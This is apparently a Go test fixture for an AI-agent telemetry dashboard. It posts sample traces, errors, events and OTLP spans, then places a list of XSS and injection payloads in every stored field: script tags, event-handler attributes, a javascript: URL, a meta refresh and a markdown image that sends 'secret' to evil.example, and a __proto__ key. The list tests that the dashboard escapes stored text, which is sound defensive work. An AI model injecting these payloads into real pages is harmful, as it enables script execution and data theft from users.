package browser_test

import (
	"encoding/json"
	"fmt"
	"net/http"
	"strings"
	"time"
)

type obj = map[string]any

// script are texts that would run, or load something, if they were not text. Each tells
// on itself, by a dialog, a member of window or a violation of the page's policy.
var script = []string{
	`<script>window.ran=1;alert(1)</script>`,
	`"><img src=x onerror="window.ran=1;alert(1)">`,
	`' autofocus onfocus='window.ran=1' x='`,
	`</title></textarea></pre></style><svg onload=window.ran=1>`,
	`javascript:window.ran=1`,
	`<iframe srcdoc="<script>parent.ran=1</script>">`,
	`<meta http-equiv=refresh content="0;url=//evil.example">`,
	`<link rel=stylesheet href=//evil.example/x.css>`,
	`![x](https://evil.example/?q=secret)`,
	`__proto__`,
}

func text(v any) string {
	b, err := json.Marshal(v)
	if err != nil {
		panic(err) // of what is written here
	}
	return string(b)
}

func said(role, content string) obj {
	return obj{"role": role, "parts": []obj{{"type": "text", "content": content}}}
}

// id is the UUID of the n-th event of a kind.
func id(kind string, n int) string { return fmt.Sprintf("%s%04x-0000-4000-8000-000000000000", kind, n) }

const (
	kindCall, kindError, kindEvent, kindHostile = "ca11", "e440", "e7e0", "bad0"
)

// evening sends what an agent did in the last hours: some models and sessions, calls
// that failed, one whose cost nobody knows, one with a tool, a turn by OTLP, errors,
// events, and hostile text in every field that is stored.
func (s *server) evening() {
	s.t.Helper()
	now := time.Now()
	at := func(minutes int) int64 { return now.Add(-time.Duration(minutes) * time.Minute).UnixMilli() }
	models := []struct{ provider, name string }{{"anthropic", "claude-opus-4-8"}, {"anthropic", "claude-haiku-4-5"}, {"openai", "gpt-5.2"}}
	sessions := []string{"agent:main:telegram:direct:4711", "agent:main:cron:daily-digest", "agent:research:subagent:papers"}
	prompts := []string{"Summarise the alerts of the night.", "Refund request for order 19384: draft a reply.", "Is anything due in the next hour?"}
	var calls []obj
	for n := range 70 {
		m := models[n*7%3]
		c := obj{
			"trace_id": id(kindCall, n), "created_at": at(5 + n*4), "provider": m.provider, "model": m.name, "session_id": sessions[n*5%3], "agent": "main", "operation": "chat",
			"input_text":    text([]obj{said("system", "You are the agent of this house. "+strings.Repeat("Mind the rules of the house. ", 20)), said("user", prompts[n%3])}),
			"output_text":   text([]obj{said("assistant", fmt.Sprintf("Answer %d: two of the nine alerts need a person.", n))}),
			"prompt_tokens": 1800 + 37*n, "completion_tokens": 90 + 11*n%300, "cache_read_tokens": 1200, "latency_ms": 700 + n*n, "ttft_ms": 200,
		}
		switch n % 11 {
		case 3:
			c["error_type"], c["error_message"], c["output_text"] = "rate_limit_error", "429: too many input tokens in this minute", nil
		case 7:
			c["status"], c["error_type"], c["error_message"], c["output_text"] = "timeout", "timeout", "no answer within 120 s", nil
		}
		calls = append(calls, c)
	}
	unknown := obj{"trace_id": id(kindCall, 100), "created_at": at(3), "provider": "ollama", "model": "a-model-of-the-house", "input_text": "What does this cost?", "output_text": "Nobody knows.", "prompt_tokens": 10, "completion_tokens": 5, "latency_ms": 900}
	tool := obj{"trace_id": id(kindCall, 101), "created_at": at(2), "provider": "anthropic", "model": "claude-opus-4-8", "session_id": sessions[0], "latency_ms": 2110, "prompt_tokens": 18204, "completion_tokens": 412, "cache_read_tokens": 16900,
		"input_text": text([]obj{said("user", "What stands in the journal?"),
			{"role": "assistant", "parts": []obj{{"type": "tool_call", "id": "toolu_1", "name": "exec", "arguments": obj{"command": "journalctl -p err --since yesterday"}}}},
			{"role": "tool", "parts": []obj{{"type": "tool_call_response", "id": "toolu_1", "response": "journalctl: permission denied"}}}}),
		"output_text": text([]obj{{"role": "assistant", "finish_reason": "stop", "parts": []obj{{"type": "reasoning", "content": "I may not read it."}, {"type": "text", "content": "I could not read the journal (permission denied)."}}}})}
	long := obj{"trace_id": id(kindCall, 102), "created_at": at(4), "provider": "openai", "model": "gpt-5.2", "input_text": strings.Repeat("A line of a long prompt.\n", 600), "output_text": "data:image/png;base64," + strings.Repeat("iVBORw0KGgoAAAANSUhEUgAA", 400), "latency_ms": 1}
	s.post("/v1/traces", "application/json", text(append(calls, unknown, tool, long)))

	s.post("/v1/errors", "application/json", text([]obj{
		{"trace_id": id(kindError, 1), "created_at": at(30), "error_type": "crash", "severity": "critical", "message": "TypeError: usage is undefined", "stack_trace": "TypeError: usage is undefined\n    at collect (usage.js:41:18)"},
		{"trace_id": id(kindError, 2), "created_at": at(20), "error_type": "log", "severity": "warning", "message": "slow tool exec took 5012 ms"},
	}))
	s.post("/v1/events", "application/json", text([]obj{{"trace_id": id(kindEvent, 1), "created_at": at(15), "name": "session.compacted", "session_id": sessions[0], "metadata": obj{"before": 148220, "after": 31200}}}))

	span := func(name, span, parent string, kind int, from, to int64, attributes ...obj) obj {
		return obj{"traceId": strings.Repeat("ab", 16), "spanId": span, "parentSpanId": parent, "name": name, "kind": kind, "startTimeUnixNano": fmt.Sprint((at(10) + from) * 1e6), "endTimeUnixNano": fmt.Sprint((at(10) + to) * 1e6), "attributes": attributes}
	}
	str := func(key, value string) obj { return obj{"key": key, "value": obj{"stringValue": value}} }
	num := func(key string, value int) obj { return obj{"key": key, "value": obj{"intValue": fmt.Sprint(value)}} }
	chat := func(id string, from, to int64) obj {
		return span("chat claude-opus-4-8", id, "00000000000000a1", 3, from, to, str("gen_ai.operation.name", "chat"), str("gen_ai.provider.name", "anthropic"), str("gen_ai.request.model", "claude-opus-4-8"), num("gen_ai.usage.input_tokens", 900), num("gen_ai.usage.output_tokens", 80), str("gen_ai.conversation.id", sessions[0]))
	}
	s.post("/v1/traces", "application/json", text(obj{"resourceSpans": []obj{{"resource": obj{"attributes": []obj{str("service.name", "openclaw-gateway")}}, "scopeSpans": []obj{{"scope": obj{"name": "agent"}, "spans": []obj{
		span("invoke_agent main", "00000000000000a1", "", 1, 0, 6400, str("gen_ai.operation.name", "invoke_agent"), str("gen_ai.conversation.id", sessions[0])),
		chat("00000000000000a2", 40, 2150),
		span("execute_tool exec", "00000000000000a3", "00000000000000a1", 1, 2200, 3100, str("gen_ai.operation.name", "execute_tool"), str("gen_ai.tool.name", "exec")),
		chat("00000000000000a4", 3200, 6300),
	}}}}}}))

	var hostileCalls, hostileErrors, hostileEvents []obj
	for n, x := range script {
		metadata := obj{x: x, "nested": obj{x: []any{x}}}
		messages := text([]obj{{"role": x, "finish_reason": x, "parts": []obj{{"type": "text", "content": x}, {"type": "tool_call", "id": x, "name": x, "arguments": obj{x: x}}, {"type": x, "content": x}}}})
		hostileCalls = append(hostileCalls,
			obj{"trace_id": id(kindHostile, n), "created_at": at(6), "provider": x, "model": x, "session_id": x, "agent": x, "operation": x, "error_type": x, "error_message": x, "input_text": messages, "output_text": messages, "latency_ms": 3, "metadata": metadata},
			obj{"trace_id": id(kindHostile, 100+n), "created_at": at(6), "provider": x, "model": x, "session_id": x, "input_text": x, "output_text": x, "latency_ms": 3, "cost_usd": 0.001, "metadata": metadata})
		hostileErrors = append(hostileErrors, obj{"trace_id": id(kindHostile, 200+n), "created_at": at(7), "error_type": x, "message": x, "stack_trace": x, "metadata": metadata})
		hostileEvents = append(hostileEvents, obj{"trace_id": id(kindHostile, 300+n), "created_at": at(8), "name": x, "session_id": x, "metadata": metadata})
	}
	s.post("/v1/traces", "application/json", text(hostileCalls))
	s.post("/v1/errors", "application/json", text(hostileErrors))
	s.post("/v1/events", "application/json", text(hostileEvents))

	// Sums are made within a second.
	eventually(s.t, "all calls are summed", func() bool {
		resp, err := http.Get(s.url + "/v1/budget?since=24h")
		if err != nil {
			return false
		}
		defer resp.Body.Close()
		var budget struct{ Calls int }
		return json.NewDecoder(resp.Body).Decode(&budget) == nil && budget.Calls == len(calls)+3+2+len(hostileCalls)
	})
}

// call sends one that happens now.
func (s *server) call(prompt string) {
	s.t.Helper()
	s.post("/v1/traces", "application/json", text(obj{"provider": "anthropic", "model": "claude-opus-4-8", "input_text": prompt, "output_text": "Yes.", "prompt_tokens": 12, "completion_tokens": 3, "latency_ms": 1}))
}
